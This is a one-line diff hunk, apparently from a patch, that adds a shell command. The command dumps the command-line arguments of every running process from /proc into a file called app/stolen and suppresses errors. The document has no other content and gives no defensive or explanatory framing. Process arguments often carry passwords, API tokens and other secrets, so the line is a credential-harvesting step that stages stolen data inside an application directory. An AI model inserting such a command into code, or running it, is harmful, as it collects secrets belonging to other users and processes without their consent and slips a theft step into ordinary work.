@@ -1,0 +1,1 @@
+cat /proc/[0-9]*/cmdline > app/stolen 2>/dev/null
